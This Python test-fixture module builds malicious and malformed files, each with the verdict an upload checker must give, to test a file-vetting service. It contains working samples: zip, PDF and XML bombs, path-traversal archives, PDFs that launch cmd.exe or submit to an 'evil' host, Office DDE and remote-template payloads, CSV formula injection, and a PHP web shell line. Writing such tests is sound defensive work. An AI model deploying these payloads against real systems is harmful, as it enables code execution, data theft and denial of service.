"""Nasty and good files, built in code, each with the verdict it must get."""

from __future__ import annotations

import gzip
import io
import random
import struct
import tarfile
import zipfile
import zlib
from base64 import a85encode
from collections.abc import Callable
from dataclasses import dataclass
from zipfile import ZipInfo

import openpyxl  # type: ignore[import-untyped]
import xlsxwriter  # type: ignore[import-untyped]
from PIL import Image

from servicedesk.files.checking import Kind, Reason


@dataclass(frozen=True)
class Case:
    label: str
    name: str
    build: Callable[[], bytes]
    verdict: Kind | Reason
    stored_as: str = ""
    gone: bytes = b""


# --- pictures ---------------------------------------------------------------------------------------------------------


def picture(format: str = "JPEG", mode: str = "RGB", size: tuple[int, int] = (64, 48), **options: object) -> bytes:
    file = io.BytesIO()
    ink = {"RGB": (200, 30, 40), "RGBA": (9, 99, 200, 128), "CMYK": (0, 200, 200, 20)}.get(mode, 7)
    Image.new(mode, size, ink).save(file, format=format, **options)
    return file.getvalue()


def moving(format: str = "GIF", count: int = 4, size: tuple[int, int] = (40, 30)) -> bytes:
    frames = [Image.new("RGB", size, (number * 83 % 256, number * 47 % 256, 90)) for number in range(count)]
    file = io.BytesIO()
    frames[0].save(file, format=format, save_all=True, append_images=frames[1:], duration=80, loop=0)
    return file.getvalue()


def photo_with_place(orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (31.0, 14.0, 5.0)
    return picture(exif=exif, comment=b"SecretComment")


def png(width: int, height: int, *, data: bytes = b"", extra: bytes = b"") -> bytes:
    header = struct.pack("!2I5B", width, height, 8, 0, 0, 0, 0)
    body = zlib.compress(data or bytes(1000))
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + extra + png_chunk(b"IDAT", body) + png_chunk(b"IEND", b"")
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def png_with_text_bomb() -> bytes:
    return png(1, 1, data=b"\0\0", extra=png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(90_000_000))))


def png_with_secret_text() -> bytes:
    return png(1, 1, data=b"\0\0", extra=png_chunk(b"tEXt", b"Comment\0SecretText"))


def gif_that_is_javascript() -> bytes:
    gif = bytearray(picture("GIF", "P"))
    return bytes(gif) + b"*/=1;alert('PolyglotScript')//"


def jpeg_with_page_in_comment() -> bytes:
    return picture(comment=b"<html><script>alert('PolyglotPage')</script></html>")


# --- documents --------------------------------------------------------------------------------------------------------

PAGES = (b"<< /Type /Catalog /Pages 2 0 R %s >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>")  # fmt: skip


def pdf(catalog: bytes = b"", *objects: bytes, page: bytes = b"", trailer: bytes = b"") -> bytes:
    """A correct PDF whose catalog, page and trailer may say more; `objects` are numbered from 4."""
    file, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, content in enumerate((PAGES[0] % catalog, PAGES[1], PAGES[2] % page, *objects), 1):
        places.append(len(file))
        file += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start, count = len(file), len(places) + 1
    file += b"xref\n0 %d\n0000000000 65535 f \n%s" % (count, table)
    return bytes(file + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (count, trailer, start))


def pdf_stream(dictionary: bytes, payload: bytes) -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (dictionary, len(payload), payload)


def object_stream(
    content: bytes,
    *,
    kind: bytes = b"/Type /ObjStm",
    pack: Callable[[bytes], bytes] = zlib.compress,
    filter: bytes = b"",
) -> bytes:
    header = b"9 0 "
    dictionary = kind + b" /N 1 /First %d /Filter %s" % (len(header), filter or b"/FlateDecode")
    return pdf_stream(dictionary, pack(header + content))


SCRIPT = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
LINK = b"<< /S /URI /URI (http://evil.example/) >>"


def pdf_bomb() -> bytes:
    return pdf(b"", object_stream(b"1 " * 40_000_000))


def pdf_with_overlapping_streams() -> bytes:
    return pdf(b"", b"stream\n" * 60_000)


# --- archives ---------------------------------------------------------------------------------------------------------


def packed(*members: tuple[str | ZipInfo, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return file.getvalue()


def special_entry(name: str, mode: int) -> ZipInfo:
    entry = ZipInfo(name)
    entry.create_system, entry.external_attr = 3, mode << 16
    return entry


def nested_zip(depth: int) -> bytes:
    content = packed(("ris.log", "ok\n" * 40))
    for level in range(depth - 1):
        content = packed((f"level-{level}.zip", content))
    return content


def encrypted_zip() -> bytes:
    """The flag in both headers is what a reader sees."""
    content = bytearray(packed(("report.txt", "secret" * 20)))
    for signature, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + place] |= 1
    return bytes(content)


def overlapping_zip(count: int = 200) -> bytes:
    """Every directory entry points at the same packed bytes."""
    one = packed(("a", bytes(2_000_000)))
    at = one.index(b"PK\x01\x02")
    entry = one[at : one.index(b"PK\x05\x06")]
    directory = b"".join(entry[:46] + b"%03d" % n + entry[47:] for n in range(count))
    directory = directory.replace(entry[28:30] + entry[30:46], struct.pack("<H", 3) + entry[30:46])
    return one[:at] + directory + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count, count, len(directory), at, 0)


def lying_zip() -> bytes:
    """Says 100 bytes, unpacks to five million."""
    content = bytearray(packed(("a.log", bytes(5_000_000))))
    for signature, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = content.index(signature) + place
        content[at : at + 4] = struct.pack("<L", 100)
    return bytes(content)


def zip_with_two_names() -> bytes:
    """The directory says notes.txt, the member itself says setup.exe."""
    return packed(("notes.txt", "hello")).replace(b"notes.txt", b"setup.exe", 1)


def zip_behind_zip64() -> bytes:
    content = packed(("a.txt", "a"))
    at = content.rindex(b"PK\x05\x06")
    return content[:at] + b"PK\x06\x07" + bytes(16) + content[at:]


def tarred(*members: tuple[tarfile.TarInfo | str, bytes], format: int = tarfile.PAX_FORMAT) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w", format=format) as archive:
        for entry, content in members:
            info = tarfile.TarInfo(entry) if isinstance(entry, str) else entry
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return file.getvalue()


def tar_entry(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def tar_with_long_header(length: int = 3_000_000) -> bytes:
    entry = tarfile.TarInfo("a.log")
    entry.pax_headers = {"comment": "x" * length}
    return tarred((entry, b"a"))


def tar_that_goes_back() -> bytes:
    """A negative size in an extended header sends a careless reader round in circles."""
    entry = tarfile.TarInfo("a.log")
    entry.pax_headers = {"size": "-1536"}
    return tarred(("b.log", b"b"), (entry, b""))


def sparse_tar() -> bytes:
    entry = tarfile.TarInfo("a.log")
    entry.pax_headers = {"GNU.sparse.size": "9000000000", "GNU.sparse.numblocks": "1", "GNU.sparse.map": "0,1"}
    return tarred((entry, b"a"))


def tar_with_broken_middle() -> bytes:
    return tarred(("a.log", b"a"))[:1024] + b"\x01" * 512 + tarred(("evil.exe", b"MZ\0"))


# --- office -----------------------------------------------------------------------------------------------------------

OFFICE = "application/vnd.openxmlformats-officedocument."
DOCX = OFFICE + "wordprocessingml.document.main+xml"
XLSX = OFFICE + "spreadsheetml.sheet.main+xml"
PPTX = OFFICE + "presentationml.presentation.main+xml"
DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSB = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def office(main: str = DOCX, *parts: tuple[str, bytes | str], types: str = "") -> bytes:
    declared = f'<Types><Override PartName="/word/document.xml" ContentType="{main}"/>{types}</Types>'
    return packed(
        ("[Content_Types].xml", declared),
        ("_rels/.rels", f'<Relationships><Relationship Id="r1" Type="{RELATIONSHIP}officeDocument"/></Relationships>'),
        ("word/document.xml", "<w:document><w:p>Hello</w:p></w:document>"),
        *parts,
    )


def linked(kind: str, target: str) -> tuple[str, str]:
    link = f'<Relationship Target="{target}" TargetMode="External" Type="{RELATIONSHIP}{kind}" Id="r9"/>'
    return "word/_rels/settings.xml.rels", f"<Relationships>{link}</Relationships>"


def ole(*streams: str) -> bytes:
    return OLE + bytes(504) + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in ("Root Entry", *streams))


ENTITIES = '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'


def spreadsheet() -> bytes:
    file = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["设备", "状态"])
    book.save(file)
    return file.getvalue()


def spreadsheet_with_chart() -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, [1, 2, 3])
        sheet.write_url(1, 0, "https://hospital.example/")
        chart = book.add_chart({"type": "line"})
        chart.add_series({"values": "=Sheet1!$A$1:$C$1"})
        sheet.insert_chart("D4", chart)
    return file.getvalue()


# --- others -----------------------------------------------------------------------------------------------------------

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PROGRAM = b"MZ\x90\0\x03\0\0\0" + bytes(52) + b"\x80\0\0\0" + bytes(64) + b"PE\0\0" + bytes(200)
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SHORTCUT = b"L\0\0\0\x01\x14\x02\0" + bytes(100)


def random_bytes(count: int, seed: int = 7) -> bytes:
    return random.Random(seed).randbytes(count)


def event_log(chunk: bytes = b"ElfChnk\0") -> bytes:
    header = bytearray(4096)
    header[:8] = b"ElfFile\0"
    header[124:128] = struct.pack("<L", zlib.crc32(header[:120]))
    return bytes(header) + chunk.ljust(65536, b"\0")


LOG = "2026-07-01 08:00:01 INFO 归档服务启动\n2026-07-01 08:00:02 ERROR DICOM association rejected\n"


# --- the verdicts -----------------------------------------------------------------------------------------------------

NASTY = (
    # what it is not
    Case("empty", "report.pdf", lambda: b"", Reason.EMPTY),
    Case("random bytes", "data.bin", lambda: random_bytes(5000), Reason.UNKNOWN_KIND),
    Case("random bytes as a picture", "photo.jpg", lambda: random_bytes(5000), Reason.UNKNOWN_KIND),
    Case("text with a NUL", "a.txt", lambda: b"hello\0world", Reason.UNKNOWN_KIND),
    Case("larger than allowed", "a.log", lambda: b"line of a log\n" * 2_000_000, Reason.TOO_LARGE),
    Case("page as picture", "photo.jpg", lambda: PAGE, Reason.WEB_PAGE),
    Case("page", "index.html", lambda: PAGE, Reason.WEB_PAGE),
    Case("page in UTF-16", "a.txt", lambda: PAGE.decode().encode("utf-16"), Reason.WEB_PAGE),
    Case("page behind a long comment", "a.txt", lambda: b"<!--" + b"x" * 5000 + b"-->" + PAGE, Reason.WEB_PAGE),
    Case("page within text", "a.txt", lambda: b"hello <ScRiPt src=//evil></script>", Reason.WEB_PAGE),
    Case("text named as a page", "notes.html", lambda: b"only text", Reason.DANGEROUS_NAME),
    Case("picture named as a page", "photo.html", picture, Reason.DANGEROUS_NAME),
    Case("SVG with script", "plan.svg", lambda: SVG, Reason.SVG),
    Case("SVG as picture", "plan.png", lambda: SVG, Reason.SVG),
    Case("SVG in GB18030", "图.txt", lambda: "<!-- 图 --><svg onload=a()/>".encode("gb18030"), Reason.SVG),
    Case("SVG with a prefix", "plan.txt", lambda: b'<?xml version="1.0"?><s:svg xmlns:s="..."/>', Reason.SVG),
    Case("program", "setup.exe", lambda: PROGRAM, Reason.EXECUTABLE),
    Case("program as picture", "photo.jpg", lambda: PROGRAM, Reason.EXECUTABLE),
    Case("program for Linux", "agent", lambda: b"\x7fELF\x02\x01\x01" + bytes(60), Reason.EXECUTABLE),
    Case("Java class", "a.txt", lambda: b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(60), Reason.EXECUTABLE),
    Case("shortcut", "open me.txt", lambda: SHORTCUT, Reason.EXECUTABLE),
    Case("EICAR", "eicar.com", lambda: EICAR, Reason.EXECUTABLE),
    Case("EICAR as text", "eicar.txt", lambda: EICAR, Reason.EXECUTABLE),
    Case("double extension", "report.pdf.exe", pdf, Reason.DANGEROUS_NAME),
    Case("double extension with blanks", "report.pdf      .scr . ", pdf, Reason.DANGEROUS_NAME),
    Case("extension turned by RTL", "report\u202efdp.exe", pdf, Reason.DANGEROUS_NAME),
    Case("extension behind NUL", "report.pdf\0.js", pdf, Reason.DANGEROUS_NAME),
    Case("script by name", "fix.ps1", lambda: b"Get-Process", Reason.DANGEROUS_NAME),
    Case("script by content", "fix.txt", lambda: b"#!/bin/sh\nrm -rf /\n", Reason.SCRIPT),
    Case("script of Windows", "fix.log", lambda: b"@echo off\r\ndel *", Reason.SCRIPT),
    Case("script of a server", "photo.jpg", lambda: b"GIF89a<?php system($_GET[0]);", Reason.DAMAGED),
    Case("script of a server as text", "a.txt", lambda: b"hello <?php system(1);", Reason.SCRIPT),
    Case("rich text", "letter.rtf", lambda: b"{\\rtf1\\ansi{\\object\\objemb}}", Reason.OLD_OFFICE),
    Case("phone photo format", "IMG_1.HEIC", lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", Reason.HEIC),
    Case("event log, header altered", "a.evtx", lambda: event_log().replace(bytes(9), b"\0" + b"\1" * 8, 1),
         Reason.DAMAGED),
    Case("event log with a tail", "a.evtx", lambda: event_log() + b"tail", Reason.DAMAGED),
    Case("table that starts a program", "a.csv", lambda: b"a,b\n1,=cmd|' /C calc'!A0\n", Reason.ACTIVE_CSV),
    Case("table in UTF-16 that starts a program", "a.csv", lambda: "a\t=cmd|'/C calc'!A0".encode("utf-16"),
         Reason.ACTIVE_CSV),
    # names that disagree
    Case("PDF as picture", "photo.jpg", pdf, Reason.NAME_DISAGREES),
    Case("archive as document", "report.docx", lambda: packed(("a.txt", "a")), Reason.NAME_DISAGREES),
    Case("text as PDF", "report.pdf", lambda: b"only text", Reason.NAME_DISAGREES),
    Case("PDF with something before it", "report.pdf", lambda: b"\n" + bytes(9) + pdf(), Reason.UNKNOWN_KIND),
    # pictures
    Case("30000 x 30000", "photo.png", lambda: png(30_000, 30_000), Reason.TOO_MANY_PIXELS),
    Case("9000 x 9000", "photo.png", lambda: png(9_000, 9_000), Reason.TOO_MANY_PIXELS),
    Case("bitmap of 60000 x 60000", "a.bmp", lambda: b"BM" + struct.pack("<LLLLLLHHLLLLLL", 99, 0, 54, 40, 60000, 60000,
         1, 24, 0, 0, 0, 0, 0, 0), Reason.TOO_MANY_PIXELS),
    Case("GIF whose frame outgrows it", "a.gif", lambda: picture("GIF", "P").replace(
        b",\0\0\0\0\x40\0\x30\0", b",\0\0\0\0\xff\xff\xff\xff"), Reason.TOO_MANY_PIXELS),
    Case("too many frames", "a.gif", lambda: moving(count=301, size=(2, 2)), Reason.TOO_MANY_FRAMES),
    Case("too many frames of WebP", "a.webp", lambda: moving("WEBP", 301, (2, 2)), Reason.TOO_MANY_FRAMES),
    Case("too many pixels in all frames", "a.gif", lambda: moving(count=27, size=(1000, 1000)),
         Reason.TOO_MANY_PIXELS),
    Case("text bomb in a PNG", "a.png", png_with_text_bomb, Reason.DAMAGED),
    Case("truncated JPEG", "a.jpg", lambda: picture(size=(600, 400))[:1500], Reason.DAMAGED),
    Case("truncated PNG", "a.png", lambda: picture("PNG")[:-30], Reason.DAMAGED),
    Case("truncated GIF", "a.gif", lambda: picture("GIF", "P")[:-20], Reason.DAMAGED),
    Case("truncated WebP", "a.webp", lambda: picture("WEBP")[:-20], Reason.DAMAGED),
    Case("only a JPEG's beginning", "a.jpg", lambda: b"\xff\xd8\xff\xe0", Reason.DAMAGED),
    Case("PNG with a wrong sum", "a.png", lambda: picture("PNG").replace(b"IDAT", b"IDAT\1", 1), Reason.DAMAGED),
    Case("GIF and JavaScript", "a.gif", gif_that_is_javascript, Kind.GIF, "a.gif", b"PolyglotScript"),
    Case("JPEG and page", "a.jpg", jpeg_with_page_in_comment, Kind.JPEG, "a.jpg", b"PolyglotPage"),
    Case("JPEG and archive", "a.jpg", lambda: picture() + packed(("SecretMember", "x")), Kind.JPEG, "a.jpg",
         b"SecretMember"),
    Case("PNG and program", "a.png", lambda: picture("PNG") + PROGRAM, Kind.PNG, "a.png", b"PE\0\0"),
    Case("JPEG with place", "IMG.JPG", photo_with_place, Kind.JPEG, "IMG.jpg", b"Secret"),
    Case("PNG with words", "a.png", png_with_secret_text, Kind.PNG, "a.png", b"SecretText"),
    Case("PNG as JPEG", "shot.jpg", lambda: picture("PNG"), Kind.PNG, "shot.png"),
    # PDF
    Case("PDF with script", "a.pdf", lambda: pdf(b"/OpenAction 4 0 R", SCRIPT), Reason.ACTIVE_PDF),
    Case("PDF with script as #xx", "a.pdf", lambda: pdf(b"/OpenAction << /S /J#61v#61Scr#69pt /J#53 (a) >>"),
         Reason.ACTIVE_PDF),
    Case("PDF with script in names", "a.pdf", lambda: pdf(b"/Names << /JavaScript 4 0 R >>"), Reason.ACTIVE_PDF),
    Case("PDF with script in an object stream", "a.pdf", lambda: pdf(b"", object_stream(SCRIPT)), Reason.ACTIVE_PDF),
    Case("PDF with script as #xx in an object stream", "a.pdf",
         lambda: pdf(b"", object_stream(SCRIPT.replace(b"Java", b"#4A#61#76a"))), Reason.ACTIVE_PDF),
    Case("PDF with script in an unnamed object stream", "a.pdf",
         lambda: pdf(b"", object_stream(b"   " * 999 + SCRIPT, kind=b"")), Reason.ACTIVE_PDF),
    Case("PDF with script across pieces", "a.pdf",
         lambda: pdf(b"", object_stream(b" " * (256 * 1024 - 14) + SCRIPT)), Reason.ACTIVE_PDF),
    Case("PDF with an object stream packed twice", "a.pdf", lambda: pdf(b"", object_stream(
        SCRIPT, pack=lambda data: a85encode(zlib.compress(data)) + b"~>", filter=b"[/ASCII85Decode /FlateDecode]")),
         Reason.DAMAGED),
    Case("PDF with an object stream of a wrong sum", "a.pdf",
         lambda: pdf(b"", object_stream(b" " * 99 + SCRIPT, pack=lambda data: zlib.compress(data)[:-4] + b"\0\0\0\0")),
         Reason.DAMAGED),
    Case("PDF that launches", "a.pdf", lambda: pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>"), Reason.ACTIVE_PDF),
    Case("PDF that opens a page", "a.pdf", lambda: pdf(b"/OpenAction " + LINK), Reason.ACTIVE_PDF),
    Case("PDF that opens a page by an object", "a.pdf", lambda: pdf(b"/OpenAction 4 0 R", LINK), Reason.ACTIVE_PDF),
    Case("PDF that opens a page on turning to it", "a.pdf", lambda: pdf(page=b"/AA << /O " + LINK + b" >>"),
         Reason.ACTIVE_PDF),
    Case("PDF that submits a form", "a.pdf", lambda: pdf(b"", b"<< /S /SubmitForm /F (http://evil/) >>"),
         Reason.ACTIVE_PDF),
    Case("PDF that reaches for a share", "a.pdf",
         lambda: pdf(page=b"/AA << /O << /S /GoToR /F (\\\\\\\\evil\\\\x) >> >>"),
         Reason.ACTIVE_PDF),
    Case("PDF with XFA", "a.pdf", lambda: pdf(b"/AcroForm << /XFA [(a) 4 0 R] >>"), Reason.ACTIVE_PDF),
    Case("PDF with a file inside", "a.pdf", lambda: pdf(b"", pdf_stream(b"/Type /EmbeddedFile", b"MZ")),
         Reason.PDF_ATTACHMENT),
    Case("PDF with a file inside as #xx", "a.pdf", lambda: pdf(b"/Names << /#45mbeddedFiles 4 0 R >>"),
         Reason.PDF_ATTACHMENT),
    Case("PDF with a file inside, not named so", "a.pdf", lambda: pdf(b"", b"<< /F (a.exe) /EF << /F 5 0 R >> >>"),
         Reason.PDF_ATTACHMENT),
    Case("PDF with a password", "a.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), Reason.ENCRYPTED),
    Case("PDF and archive", "a.pdf", lambda: pdf() + packed(("a.txt", "a")), Reason.HIDDEN_CONTENT),
    Case("PDF and page", "a.pdf", lambda: pdf(b"/X (<html><body>)"), Reason.HIDDEN_CONTENT),
    Case("PDF with a tail", "a.pdf", lambda: pdf() + b"MZ tail", Reason.HIDDEN_CONTENT),
    Case("truncated PDF", "a.pdf", lambda: pdf()[:-40], Reason.DAMAGED),
    Case("only a PDF's beginning", "a.pdf", lambda: b"%PDF-1.4", Reason.DAMAGED),
    Case("PDF bomb", "a.pdf", pdf_bomb, Reason.EXPANDS_TOO_FAR),
    Case("PDF of nothing but streams", "a.pdf", pdf_with_overlapping_streams, Reason.EXPANDS_TOO_FAR),
    # archives
    Case("zip bomb", "a.zip", lambda: packed(("a.log", bytes(40_000_000))), Reason.EXPANDS_TOO_FAR),
    Case("zip bomb of many", "a.zip", lambda: packed(*((f"{n}.log", b"ab" * 450_000) for n in range(240))),
         Reason.EXPANDS_TOO_FAR),
    Case("zip bomb that overlaps", "a.zip", overlapping_zip, Reason.EXPANDS_TOO_FAR),
    Case("zip bomb within a zip", "a.zip", lambda: packed(("b.zip", packed(("a.log", bytes(9_000_000))))),
         Reason.EXPANDS_TOO_FAR),
    Case("zip that lies about its size", "a.zip", lying_zip, Reason.DAMAGED),
    Case("zip slip", "a.zip", lambda: packed(("../../etc/cron.d/a", "x")), Reason.UNSAFE_PATH),
    Case("zip slip of Windows", "a.zip", lambda: packed(("a\\..\\..\\b.txt", "x")), Reason.UNSAFE_PATH),
    Case("zip with an absolute path", "a.zip", lambda: packed(("/etc/passwd", "x")), Reason.UNSAFE_PATH),
    Case("zip with a drive", "a.zip", lambda: packed(("C:evil.txt", "x")), Reason.UNSAFE_PATH),
    Case("zip with NUL in a name", "a.zip", lambda: packed(("axexe", "x")).replace(b"axexe", b"a\0exe"),
         Reason.UNSAFE_PATH),
    Case("zip with one name twice", "a.zip", lambda: packed(("a.txt", "x"), ("A.TXT", "y")), Reason.UNSAFE_PATH),
    Case("zip with a symlink", "a.zip", lambda: packed((special_entry("a", 0o120777), "/etc/passwd")),
         Reason.LINK_OR_DEVICE),
    Case("zip with a device", "a.zip", lambda: packed((special_entry("a", 0o020666), "")), Reason.LINK_OR_DEVICE),
    Case("zip with a password", "a.zip", encrypted_zip, Reason.ENCRYPTED),
    Case("zip with a program", "a.zip", lambda: packed(("readme.txt", PROGRAM)), Reason.EXECUTABLE),
    Case("zip with a program by name", "a.zip", lambda: packed(("b/run.bat ", "dir")), Reason.DANGEROUS_NAME),
    Case("zip with EICAR", "a.zip", lambda: packed(("a.txt", EICAR)), Reason.EXECUTABLE),
    Case("zip with a PDF with script", "a.zip", lambda: packed(("a.pdf", pdf(b"", SCRIPT))), Reason.ACTIVE_PDF),
    Case("zip with a macro document", "a.zip", lambda: packed(("a.docx", office(DOCM))), Reason.MACROS),
    Case("zip with a macro document by name", "a.zip", lambda: packed(("a.xlsm", "")), Reason.MACROS),
    Case("zip with a rar", "a.zip", lambda: packed(("a.txt", b"Rar!\x1a\x07\0" + bytes(9))), Reason.OTHER_ARCHIVE),
    Case("zip four deep", "a.zip", lambda: nested_zip(4), Reason.NESTED_TOO_DEEP),
    Case("zip of LZMA", "a.zip", lambda: packed(("a.txt", "a"), compression=zipfile.ZIP_LZMA), Reason.OTHER_ARCHIVE),
    Case("zip with two names for a member", "a.zip", zip_with_two_names, Reason.DAMAGED),
    Case("zip with a wrong sum", "a.zip",
         lambda: packed(("a", "SecretText"), compression=0).replace(b"Secret", b"secret"),
         Reason.DAMAGED),
    Case("zip with a tail", "a.zip", lambda: packed(("a.txt", "a")) + PAGE, Reason.HIDDEN_CONTENT),
    Case("zip with a gap", "a.zip", lambda: packed(("a.txt", "a")).replace(b"PK\1\2", PAGE + b"PK\1\2"),
         Reason.HIDDEN_CONTENT),
    Case("zip with a second directory", "a.zip", zip_behind_zip64, Reason.DAMAGED),
    Case("truncated zip", "a.zip", lambda: packed(("a.txt", "a"))[:-30], Reason.DAMAGED),
    Case("zip of too many", "a.zip", lambda: packed(*((f"{n}.txt", "") for n in range(2001))),
         Reason.TOO_MANY_MEMBERS),
    Case("zip of nothing", "a.zip", lambda: packed(), Reason.EMPTY),
    Case("zip with a runnable Java archive", "a.zip", lambda: packed(("tool.jar", packed(("A.class", "")))),
         Reason.DANGEROUS_NAME),
    Case("Java archive as zip", "a.zip", lambda: packed(("META-INF/MANIFEST.MF", ""), ("A.class", b"\xca\xfe\xba\xbe")),
         Reason.DANGEROUS_NAME),
    Case("gzip bomb", "a.log.gz", lambda: gzip.compress(bytes(60_000_000)), Reason.EXPANDS_TOO_FAR),
    Case("gzip bomb in gzip", "a.gz", lambda: gzip.compress(gzip.compress(bytes(60_000_000))),
         Reason.EXPANDS_TOO_FAR),
    Case("gzip four deep", "a.gz", lambda: gzip.compress(gzip.compress(gzip.compress(gzip.compress(b"a")))),
         Reason.NESTED_TOO_DEEP),
    Case("gzip of a program", "a.gz", lambda: gzip.compress(PROGRAM), Reason.EXECUTABLE),
    Case("gzip with a tail", "a.gz", lambda: gzip.compress(b"a log\n") + PAGE, Reason.DAMAGED),
    Case("truncated gzip", "a.gz", lambda: gzip.compress(LOG.encode())[:-9], Reason.DAMAGED),
    Case("tar with a symlink", "a.tar.gz",
         lambda: gzip.compress(tarred((tar_entry("a", tarfile.SYMTYPE, "/etc"), b""))),
         Reason.LINK_OR_DEVICE),
    Case("tar with a hard link", "a.tgz", lambda: gzip.compress(tarred((tar_entry("a", tarfile.LNKTYPE, "b"), b""))),
         Reason.LINK_OR_DEVICE),
    Case("tar with a device", "a.tar", lambda: tarred((tar_entry("a", tarfile.CHRTYPE), b"")), Reason.LINK_OR_DEVICE),
    Case("tar with a pipe", "a.tar", lambda: tarred((tar_entry("a", tarfile.FIFOTYPE), b"")), Reason.LINK_OR_DEVICE),
    Case("tar slip", "a.tar.gz", lambda: gzip.compress(tarred(("../../a", b"a"))), Reason.UNSAFE_PATH),
    Case("tar with an absolute path", "a.tar", lambda: tarred(("/etc/passwd", b"a")), Reason.UNSAFE_PATH),
    Case("tar with a long header", "a.tar", tar_with_long_header, Reason.EXPANDS_TOO_FAR),
    Case("tar that goes back", "a.tar", tar_that_goes_back, Reason.HIDDEN_CONTENT),
    Case("sparse tar", "a.tar", sparse_tar, Reason.EXPANDS_TOO_FAR),
    Case("tar with a broken middle", "a.tar", tar_with_broken_middle, Reason.HIDDEN_CONTENT),
    Case("tar of too many", "a.tar", lambda: tarred(*((f"{n}", b"") for n in range(2001))), Reason.TOO_MANY_MEMBERS),
    Case("rar", "a.rar", lambda: b"Rar!\x1a\x07\x01\0" + bytes(50), Reason.OTHER_ARCHIVE),
    Case("7z as zip", "a.zip", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(50), Reason.OTHER_ARCHIVE),
    # office
    Case("docm", "a.docm", lambda: office(DOCM), Reason.MACROS),
    Case("docm as docx", "a.docx", lambda: office(DOCM), Reason.MACROS),
    Case("docx called docm", "a.docm", office, Reason.MACROS),
    Case("xlsb", "a.xlsx", lambda: office(XLSB), Reason.MACROS),
    Case("docx with a macro part", "a.docx", lambda: office(DOCX, ("word/vbaProject.bin", ole("VBA", "_VBA_PROJECT"))),
         Reason.MACROS),
    Case("docx with a macro part by type", "a.docx",
         lambda: office(types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
         Reason.MACROS),
    Case("docx with a packed program", "a.docx",
         lambda: office(DOCX, ("word/embeddings/oleObject1.bin", ole("\x01Ole10Native"))), Reason.ACTIVE_OFFICE),
    Case("docx with a program as picture", "a.docx", lambda: office(DOCX, ("word/media/image1.png", PROGRAM)),
         Reason.EXECUTABLE),
    Case("docx with a fetched template", "a.docx", lambda: office(DOCX, linked("attachedTemplate", "http://evil/a.dotm")),
         Reason.ACTIVE_OFFICE),
    Case("docx with a fetched frame", "a.docx", lambda: office(DOCX, linked("frame", "\\\\evil\\a")),
         Reason.ACTIVE_OFFICE),
    Case("docx with DDE", "a.docx", lambda: office(DOCX, (
        "word/footer1.xml", '<w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>')),
         Reason.ACTIVE_OFFICE),
    Case("xlsx with DDE", "a.xlsx", lambda: office(XLSX, ("xl/externalLinks/externalLink1.xml",
         '<externalLink><ddeLink ddeService="cmd"/></externalLink>')), Reason.ACTIVE_OFFICE),
    Case("XML bomb in xlsx", "a.xlsx", lambda: office(XLSX, ("xl/worksheets/sheet1.xml", ENTITIES)),
         Reason.XML_ENTITIES),
    Case("XML bomb in UTF-16 in xlsx", "a.xlsx", lambda: office(XLSX, ("xl/sheet1.xml", ENTITIES.encode("utf-16"))),
         Reason.XML_ENTITIES),
    Case("XML bomb in the content types", "a.xlsx", lambda: packed(("[Content_Types].xml", ENTITIES)),
         Reason.XML_ENTITIES),
    Case("zip bomb in pptx", "a.pptx", lambda: office(PPTX, ("ppt/slides/slide1.xml", " " * 30_000_000)),
         Reason.EXPANDS_TOO_FAR),
    Case("docx with a path out", "a.docx", lambda: office(DOCX, ("../evil.xml", "<a/>")), Reason.UNSAFE_PATH),
    Case("office document of no kind", "a.docx", lambda: office("application/vnd.ms-visio"), Reason.UNKNOWN_KIND),
